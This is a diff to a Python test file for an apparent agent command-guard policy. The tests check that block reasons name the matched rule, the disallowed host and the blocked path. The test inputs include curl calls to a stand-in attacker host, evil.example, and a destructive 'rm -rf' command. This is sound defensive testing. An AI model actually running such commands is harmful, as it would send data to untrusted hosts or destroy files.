@@ -64,6 +64,13 @@ def test_a_block_reason_names_the_rule_and_what_matched(starter: Path):
         assert "'no-secrets'" in secret.reason and str(starter.parent / ".env") in secret.reason
         host = rt.decide({"name": "exec", "params": {"command": "curl https://evil.example/x"}})
         assert "'egress-commands'" in host.reason and "host evil.example" in host.reason
+        # The item outside the unless list is named, not the allow-listed one next to it.
+        two = rt.decide(
+            {"name": "exec", "params": {"command": "curl https://github.com https://evil.example"}}
+        )
+        assert "host evil.example" in two.reason and "host github.com" not in two.reason
+        mixed = rt.decide({"name": "exec", "params": {"command": "rm -rf build/a src"}})
+        assert f"path {starter.parent / 'src'}" in mixed.reason
 
 
 def _rank(decision: str) -> int:
